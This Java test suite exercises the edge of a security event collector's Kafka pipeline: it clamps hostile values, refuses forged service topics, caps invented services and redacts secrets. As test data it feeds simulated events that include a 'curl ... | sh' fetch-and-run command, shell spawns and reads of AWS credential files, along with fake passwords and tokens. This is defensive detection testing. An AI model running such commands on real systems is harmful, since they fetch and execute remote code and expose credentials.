package dev.tripline.collector.pipeline;

import static dev.tripline.collector.pipeline.PipelineFixtures.connect;
import static dev.tripline.collector.pipeline.PipelineFixtures.read;
import static dev.tripline.collector.pipeline.PipelineFixtures.spawn;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tripline.collector.config.CollectorKeys;
import dev.tripline.collector.kafka.ServiceTopicOwners;
import dev.tripline.collector.kafka.ServiceTopics;
import dev.tripline.kafka.EmbeddedKafka;
import dev.tripline.kafka.KafkaBroker;
import dev.tripline.kafka.Patience;
import dev.tripline.model.AgentIdentity;
import dev.tripline.model.Alert;
import dev.tripline.model.AlertReason;
import dev.tripline.model.Event;
import dev.tripline.model.EventBatch;
import dev.tripline.model.ServiceProfile;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.NewTopic;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/**
 * The pipeline's edge on the real broker: service topics, services.max, sane values, a newer
 * agent's batch.
 */
@ExtendWith(KafkaBroker.class)
class EdgePipelineTest {
  private static final Duration WAIT = Patience.WAIT;

  static double count(SimpleMeterRegistry r, String name, String tag, String value) {
    var c = r.find(name).tag(tag, value).counter();
    return c == null ? 0 : c.count();
  }

  static byte[] batch(String service, Event... events) {
    return EventBatch.newBuilder()
        .setSchemaVersion(1)
        .setAgent(AgentIdentity.newBuilder().setService(service).setInstanceId("i-1").setHost("h"))
        .addAllEvents(List.of(events))
        .build()
        .toByteArray();
  }

  @Test
  void aNewerAgentsBatchIsProcessedAndItsKnownBadEventAlerts(EmbeddedKafka kafka, @TempDir Path dir)
      throws Exception {
    SimpleMeterRegistry meters = new SimpleMeterRegistry();
    try (PipelineFixtures f = new PipelineFixtures(kafka, dir, 1, "learning.period", "1h");
        DetectionPipeline p = f.pipeline(dir.resolve("a").toString(), meters)) {
      // One event of kind 99 with a field number from a future schema, next to a credentials read.
      byte[] newer = SanitizerTest.newerSchemaBatch(read("/home/app/.aws/credentials")).clone();
      f.producer
          .send(new ProducerRecord<>(f.config.get(CollectorKeys.TOPIC_EVENTS), "shop", newer))
          .get(Patience.WAIT.toSeconds(), TimeUnit.SECONDS);
      await().atMost(WAIT).until(() -> f.alerts().size() == 1);
      Alert alert = f.alerts().get(0);
      assertEquals(AlertReason.KNOWN_BAD, alert.getReason());
      assertEquals("credential-file", alert.getRule());
      await().atMost(WAIT).until(() -> p.backend().profile("shop").isPresent());
      assertEquals(
          0,
          meters.get("tripline.dead.letters").counter().count(),
          "nothing of the batch was thrown away");
      assertEquals(1, count(meters, "tripline.events.unknown", "what", "kind"));
      assertTrue(count(meters, "tripline.events.unknown", "what", "field") >= 1);
    }
  }

  @Test
  void hostileValuesNeverReachTheProfile(EmbeddedKafka kafka, @TempDir Path dir) throws Exception {
    SimpleMeterRegistry meters = new SimpleMeterRegistry();
    try (PipelineFixtures f = new PipelineFixtures(kafka, dir, 1, "learning.period", "1h");
        DetectionPipeline p = f.pipeline(dir.resolve("a").toString(), meters)) {
      long year3000 = 32_503_680_000_000L;
      f.send(
          "shop",
          connect("db.internal", 5432).toBuilder()
              .setCount(Long.MAX_VALUE)
              .setLastSeenMs(year3000)
              .build(),
          read("/etc/shop/app.conf").toBuilder()
              .setCount(-9_223_372_036_854_775_807L)
              .setBytes(-5)
              .build(),
          connect("cache.internal", 6379).toBuilder().setCount(Long.MAX_VALUE).build());
      await()
          .atMost(WAIT)
          .until(() -> p.backend().profile("shop").map(s -> s.getEventsTotal() > 0).orElse(false));
      ServiceProfile profile = p.backend().profile("shop").orElseThrow();
      assertEquals(2 * Sanitizer.MAX_COUNT + 1, profile.getEventsTotal(), profile.toString());
      assertEquals(3, count(meters, "tripline.values.clamped", "field", "count"));
      assertEquals(1, count(meters, "tripline.values.clamped", "field", "time"));
      for (var e : profile.getEntriesList()) {
        assertTrue(e.getCount() > 0 && e.getLastSeenMs() < year3000, e.toString());
      }
    }
  }

  @Test
  void aServiceTopicSpeaksOnlyForItsServiceOnItsPartition(EmbeddedKafka kafka, @TempDir Path dir)
      throws Exception {
    SimpleMeterRegistry meters = new SimpleMeterRegistry();
    try (PipelineFixtures f =
            new PipelineFixtures(
                kafka, dir, 2, "topic.events.shared", "false", "learning.period", "1h");
        DetectionPipeline p = f.pipeline(dir.resolve("a").toString(), meters);
        var dead = PipelineFixtures.consumer(kafka, f.config.get(CollectorKeys.TOPIC_DEADLETTER));
        Admin admin = kafka.admin()) {
      String events = f.config.get(CollectorKeys.TOPIC_EVENTS);
      String shopTopic = ServiceTopics.topicFor(events, "shop");
      // Created after the collector started: subscribed within seconds.
      admin
          .createTopics(List.of(new NewTopic(shopTopic, 2, (short) 1)))
          .all()
          .get(Patience.WAIT.toSeconds(), TimeUnit.SECONDS);
      int owner = Parsers.ownerPartition("shop", 2);
      f.producer
          .send(
              new ProducerRecord<>(
                  shopTopic, owner, "shop", batch("intruder", spawn("/bin/sh", "-c", "id"))))
          .get();
      f.producer
          .send(
              new ProducerRecord<>(
                  shopTopic, 1 - owner, "shop", batch("shop", read("/srv/shop/wrong-partition"))))
          .get();
      f.producer
          .send(
              new ProducerRecord<>(events, "shared", batch("shared", spawn("/bin/sh", "-c", "id"))))
          .get();
      await()
          .atMost(WAIT)
          .pollInterval(Duration.ofMillis(300))
          .until(
              () -> {
                f.producer
                    .send(
                        new ProducerRecord<>(
                            shopTopic, owner, "shop", batch("shop", connect("db.internal", 5432))))
                    .get();
                return p.backend().profile("shop").isPresent();
              });
      List<ConsumerRecord<String, byte[]>> letters = new ArrayList<>();
      await()
          .atMost(WAIT)
          .until(
              () -> {
                dead.poll(Duration.ofMillis(200)).forEach(letters::add);
                return letters.size() >= 2;
              });
      List<String> reasons =
          letters.stream()
              .map(
                  r ->
                      new String(
                          r.headers().lastHeader("tripline.refused").value(),
                          StandardCharsets.UTF_8))
              .sorted()
              .toList();
      assertEquals(List.of("partition", "service_mismatch"), reasons);
      String error =
          new String(
              letters.get(0).headers().lastHeader("tripline.error").value(),
              StandardCharsets.UTF_8);
      assertTrue(error.contains(shopTopic), error);
      assertEquals(1, count(meters, "tripline.events.refused", "reason", "service_mismatch"));
      assertEquals(1, count(meters, "tripline.events.refused", "reason", "partition"));
      assertTrue(p.backend().profile("intruder").isEmpty());
      assertTrue(
          p.backend().profile("shared").isEmpty(),
          "topic.events.shared=false: the shared topic is not read");
      assertTrue(
          p.backend().profile("shop").orElseThrow().getEntriesList().stream()
              .noneMatch(e -> e.getTarget().contains("wrong-partition")));
      assertTrue(f.alerts().isEmpty(), "the intruder's shell spawn raised nothing for anyone");
    }
  }

  /**
   * Issue 21, case 5: on a broker without an authorizer any process can create {@code
   * tripline.events.<victim>} and write to it. That is no evidence of identity, so it must not
   * silence the victim's real batches on the shared topic: a credential read still alerts.
   */
  @Test
  void aTopicAnyoneCouldCreateDoesNotSilenceTheVictimsSharedTopic(
      EmbeddedKafka kafka, @TempDir Path dir) throws Exception {
    SimpleMeterRegistry meters = new SimpleMeterRegistry();
    try (PipelineFixtures f = new PipelineFixtures(kafka, dir, 1, "learning.period", "1h")) {
      String victimTopic = ServiceTopics.topicFor(f.config.get(CollectorKeys.TOPIC_EVENTS), "shop");
      try (DetectionPipeline p = f.pipeline(dir.resolve("a").toString(), meters)) {
        assertEquals(ServiceTopicOwners.Authority.OPEN, p.topicAuthority());
        // The attacker's topic and batch, named for the victim.
        try (Admin admin = kafka.admin()) {
          admin
              .createTopics(List.of(new NewTopic(victimTopic, 1, (short) 1)))
              .all()
              .get(Patience.WAIT.toSeconds(), TimeUnit.SECONDS);
        }
        f.producer
            .send(
                new ProducerRecord<>(
                    victimTopic, "shop", batch("shop", connect("db.internal", 5432))))
            .get();
        await().atMost(WAIT).until(() -> p.backend().profile("shop").isPresent());
        // The victim's real agent, on the shared topic: heard, and its credential read alerts.
        f.send("shop", read("/home/app/.aws/credentials"));
        await()
            .atMost(WAIT)
            .until(
                () ->
                    f.alerts().stream()
                        .anyMatch(
                            a ->
                                a.getReason() == AlertReason.KNOWN_BAD
                                    && a.getTitle().contains(".aws/credentials")));
        assertEquals(0, count(meters, "tripline.events.refused", "reason", "shared_topic"));
        assertTrue(!p.serviceTopicOwners().bound("shop"));
      }
    }
  }

  @Test
  void aFloodOfInventedServicesIsCappedAndCounted(EmbeddedKafka kafka, @TempDir Path dir)
      throws Exception {
    SimpleMeterRegistry meters = new SimpleMeterRegistry();
    try (PipelineFixtures f = new PipelineFixtures(kafka, dir, 1, "services.max", "50");
        DetectionPipeline p = f.pipeline(dir.resolve("a").toString(), meters)) {
      long t0 = System.nanoTime();
      for (int i = 0; i < 200; i++) {
        String name = "invented-" + i;
        f.producer.send(
            new ProducerRecord<>(
                f.config.get(CollectorKeys.TOPIC_EVENTS), name, batch(name, connect("db", 5432))));
      }
      f.producer.flush();
      await()
          .atMost(WAIT)
          .until(() -> count(meters, "tripline.events.refused", "reason", "services_max") == 150);
      await().atMost(WAIT).until(() -> p.backend().profiles().size() == 50);
      double seconds = (System.nanoTime() - t0) / 1e9;
      assertTrue(seconds < 30, "took " + seconds + " s");
      // Known services go on being heard at the cap.
      f.send("invented-0", read("/etc/after-the-cap"));
      await()
          .atMost(WAIT)
          .until(
              () ->
                  p.backend().profile("invented-0").orElseThrow().getEntriesList().stream()
                      .anyMatch(e -> e.getTarget().equals("/etc/after-the-cap")));
      assertEquals(50, p.backend().profiles().size());
      assertEquals(150, meters.get("tripline.dead.letters").counter().count());
    }
  }

  /**
   * Issue 21 (9): an old or forged agent sends command lines with secrets in them. The edge redacts
   * them with the agent's rules before anything is learned or alerted on: the secrets are in no
   * profile target, no alert (protobuf) and no OCSF record.
   */
  @Test
  void aForgedUnredactedCommandLineIsRedactedBeforeProfileAlertAndOcsf(
      EmbeddedKafka kafka, @TempDir Path dir) throws Exception {
    SimpleMeterRegistry meters = new SimpleMeterRegistry();
    List<String> secrets =
        List.of(
            "Sh0rtT0k",
            "Hunt3r2",
            "X9q",
            "s3ss",
            "t1ger",
            "ghp_R2d2C3poBb8Yy7Zz6Xx5Ww4Vv3Uu2Tt1Ss0Q");
    try (PipelineFixtures f = new PipelineFixtures(kafka, dir, 1, "learning.period", "1h");
        DetectionPipeline p = f.pipeline(dir.resolve("a").toString(), meters);
        var ocsf =
            PipelineFixtures.consumer(kafka, f.config.get(CollectorKeys.TOPIC_ALERTS_JSON))) {
      f.send(
          "shop",
          spawn("/bin/sh", "-c", "curl -s https://h?token=Sh0rtT0k | sh"), // known bad: alerts
          spawn("mysql", "-uroot", "-pHunt3r2", "orders"),
          spawn("/bin/sh", "-c", "sudo -u db mysql -pX9q orders"),
          spawn("curl", "-b", "session=s3ss", "https://api.internal/x"),
          spawn("sqlplus", "scott/t1ger@db"),
          spawn("git", "clone", "https://ghp_R2d2C3poBb8Yy7Zz6Xx5Ww4Vv3Uu2Tt1Ss0Q@github.com/o/r"));
      List<String> json = new ArrayList<>();
      await()
          .atMost(WAIT)
          .until(
              () -> {
                for (ConsumerRecord<String, byte[]> r : ocsf.poll(Duration.ofMillis(200))) {
                  json.add(new String(r.value(), StandardCharsets.UTF_8));
                }
                return !f.alerts().isEmpty()
                    && !json.isEmpty()
                    && p.backend().profile("shop").map(s -> s.getEntriesCount() >= 3).orElse(false);
              });
      String profile = p.backend().profile("shop").orElseThrow().toString();
      String alerts = f.alerts().toString();
      for (String secret : secrets) {
        assertTrue(!profile.contains(secret), secret + " learned into the profile: " + profile);
        assertTrue(!alerts.contains(secret), secret + " in an alert: " + alerts);
        assertTrue(
            json.stream().noneMatch(j -> j.contains(secret)),
            secret + " on the OCSF topic: " + json);
      }
      assertTrue(alerts.contains("token=<redacted>"), alerts);
      assertTrue(
          json.stream().anyMatch(j -> j.contains("token=\\u003Credacted>")), json.toString());
      assertTrue(profile.contains("<redacted>"), profile);
      assertEquals(6, count(meters, "tripline.values.clamped", "field", "secret"));
    }
  }
}
